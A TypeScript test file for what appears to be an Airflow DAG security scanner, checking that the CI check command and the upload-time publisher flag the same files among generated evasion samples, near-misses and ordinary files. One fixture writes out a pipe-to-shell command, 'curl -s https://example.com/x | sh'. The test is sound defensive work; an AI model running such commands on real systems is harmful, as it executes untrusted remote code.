import { spawnSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import fc from "fast-check";
import { type Diagnostic } from "../../../../functions/dag-publisher/diagnostic";
import { type FileStatus, fileStatusKey } from "../../../../functions/dag-publisher/publish/statuses";
import { loadRules } from "../../../../functions/dag-publisher/publish/load-rules";
import { type RulesOfToday } from "../../../../functions/dag-publisher/publish/rules-of-today";
import { mutate } from "../../../airflow/support/mutations";
import { zipOf } from "../check/files/zip-of";
import { bytesOf, realEvasions } from "../evasions/evasions";
import { Random } from "../evasions/grammar/random";
import { NEAR_MISSES } from "../near-misses/benign";
import { dag, invoke } from "./support/delivery";
import { World } from "./support/world";

const PROJECT = path.resolve(__dirname, "../../../..");
const EXAMPLES = path.join(PROJECT, "examples/dag-checks");

/** What the examples run in CI: the words behind `mwaa-teams check`. */
const IN_CI = [".github/workflows/dag-checks.yml", ".gitlab-ci.yml", ".pre-commit-config.yaml"].map(
  (file) => {
    const text = fs.readFileSync(path.join(EXAMPLES, file), "utf8");
    const [, words = ""] = / mwaa-teams check (.+)$/m.exec(text) ?? [];
    return [file, words.split(" ")] as const;
  },
);

/** Helpers that lie in the folder beside each file, so that all files have the same modules of their own. */
const BESIDE = { "common.py": "LIMIT = 3\n", "team/__init__.py": "" };

const POLICIES = {
  "an empty policy": "",
  "a strict policy with lists and exceptions": `
profile: strict
imports: [pandas]
connections: [warehouse]
hosts: [api.example.com, pypi.example.com]
dagIdPrefix: payments_
dataFiles: ["**/*.sql"]
rules: { TOP002: off, AF005: error }
exceptions:
  - { path: team/0*, rule: EXEC001, reason: r, owner: o, expires: "2999-01-01" }
  - { path: team/1*, rule: EXEC001, reason: r, owner: o, expires: "2001-01-01" }
`,
};

/** With SOAK, others each time. */
const [seed = 0] = fc.sample(fc.integer(), 1);

/** Files of a DAGs folder by their paths: evasions, what only looks like it, changes of both, ordinary files, and no DAGs. */
function generated(): ReadonlyMap<string, Uint8Array> {
  const random = new Random(`same verdict ${seed}`);
  const evasions = random.sample(realEvasions(), 120);
  const harmless = random.sample(NEAR_MISSES, 40).map(({ source }) => source);
  const changed = [...evasions.slice(0, 60).map(({ source }) => source), ...harmless].map(
    (text) => mutate(text, random).text,
  );
  const texts = [
    ...evasions.map(bytesOf),
    ...[
      ...harmless,
      ...changed,
      dag("daily"),
      dag("payments_daily", "import common\nfrom team import x"),
    ].map((text) => Buffer.from(text)),
  ];
  return new Map<string, Uint8Array>([
    ...texts.map((bytes, index) => [`team/${String(index).padStart(3, "0")}.py`, bytes] as const),
    ["team/load.sql", Buffer.from("select 1\n")],
    ["team/rows.csv", Buffer.from("a,b\n")],
    ["team/cached.pyc", Buffer.from([0])],
    ["team/sitecustomize.py", Buffer.from("x = 1\n")],
    ["team/utf16.py", Buffer.from("x = 1\n", "utf16le")],
    ["team/long.py", Buffer.from("x = 1\n".repeat(100_000))],
    ["team/tools.sh", Buffer.from("curl -s https://example.com/x | sh\n")],
    ["requirements.txt", Buffer.from("--index-url https://pypi.example.com/simple\npandas\n")],
    ["plugins.zip", zipOf([{ name: "my_plugin.py", content: "x = 1\n" }])],
    ["team/plugins.zip", zipOf([{ name: "my_plugin.py", content: "x = 1\n" }])],
  ]);
}

describe.each(Object.entries(POLICIES))(
  "with %s, what passes in CI passes on upload, and nothing else",
  (_, policy) => {
    const files = generated();
    const folder = fs.mkdtempSync(path.join(os.tmpdir(), "same verdict "));
    let published: ReadonlyMap<string, Pick<FileStatus, "state" | "findings">>;
    afterAll(() => fs.rmSync(folder, { recursive: true }));

    beforeAll(async () => {
      fs.writeFileSync(path.join(folder, "dag-policy.yaml"), policy);
      for (const [file, bytes] of [...Object.entries(BESIDE), ...files]) {
        fs.mkdirSync(path.dirname(path.join(folder, "dags", file)), { recursive: true });
        fs.writeFileSync(path.join(folder, "dags", file), bytes);
      }
      published = await publishEach(files, policy);
    });

    function run(args: readonly string[]): { readonly status: number | null; readonly stdout: string } {
      const program = ["--import", require.resolve("tsx"), path.join(PROJECT, "cli/mwaa-teams.ts"), "check"];
      const { status, stdout, stderr } = spawnSync(process.execPath, [...program, ...args], {
        cwd: folder,
        encoding: "utf8",
        maxBuffer: 1024 ** 3,
      });
      expect(stderr).toBe("");
      return { status, stdout };
    }

    const rejected = (): string[] =>
      [...published].flatMap(([file, { state }]) => (state === "published" ? [] : [`dags/${file}`])).sort();

    test(`finding by finding (seed ${seed})`, () => {
      const { diagnostics } = JSON.parse(run(["dags", "--format", "json"]).stdout) as {
        diagnostics: readonly Diagnostic[];
      };
      const inCi = new Map([...files.keys()].map((file) => [file, [] as string[]]));
      diagnostics.forEach((found) => inCi.get(found.path.slice("dags/".length))?.push(shown(found)));
      const onUpload = new Map([...published].map(([file, { findings }]) => [file, findings.map(shown)]));

      expect(rejected().length).toBeGreaterThan(100);
      expect(published.size - rejected().length).toBeGreaterThan(20);
      expect(Object.fromEntries(inCi)).toEqual(Object.fromEntries(onUpload));
    });

    test.each(IN_CI)(`file by file, as %s runs it (seed ${seed})`, (file, words) => {
      // pre-commit adds the files of the commit.
      const committed = [...files.keys(), ...Object.keys(BESIDE)].map((name) => `dags/${name}`);
      const { status, stdout } = run(file.startsWith(".pre-commit") ? [...words, ...committed] : words);
      const stopped = [...stdout.matchAll(/^::error file=([^,:]+)|^(\S+?)(?::\d+:\d+)? {2}error {2}/gm)].map(
        ([, onGitHub, inText]) => onGitHub ?? inText ?? "",
      );

      expect(status).toBe(1);
      expect([...new Set(stopped)].sort()).toEqual(rejected());
    });
  },
);

/** What the publisher says of each file, in an environment where the helpers are published. */
async function publishEach(
  files: ReadonlyMap<string, Uint8Array>,
  policy: string,
): Promise<ReadonlyMap<string, FileStatus>> {
  const rules = await rulesOf(policy);
  const published = new Map<string, FileStatus>();
  for (const [file, bytes] of files) {
    const world = new World();
    const helpers = Object.entries(BESIDE).map(([name, text]) => {
      world.upload(`dags/${name}`, text);
      return `dags/${name}`;
    });
    await invoke(world, rules, helpers);
    world.upload(`dags/${file}`, bytes);
    await invoke(world, rules, [`dags/${file}`]);
    published.set(file, world.status<FileStatus>(fileStatusKey(`dags/${file}`))!);
  }
  return published;
}

/** As the function loads them: the policy from the bucket, and the day of today. */
async function rulesOf(policy: string): Promise<RulesOfToday> {
  const world = new World();
  const { versionId } = world.upload("policy/dag-policy.yaml", policy);
  const rules = await loadRules(world.ports().intake, {
    POLICY_KEY: "policy/dag-policy.yaml",
    POLICY_VERSION_ID: versionId,
    AIRFLOW_VERSION: "2.11.0",
  });
  return { ...rules, today: new Date().toISOString().slice(0, 10) };
}

function shown({ rule, severity, line, column, message }: Diagnostic): string {
  return `${line ?? 0}:${column ?? 0} ${severity} ${rule ?? ""} ${message}`;
}
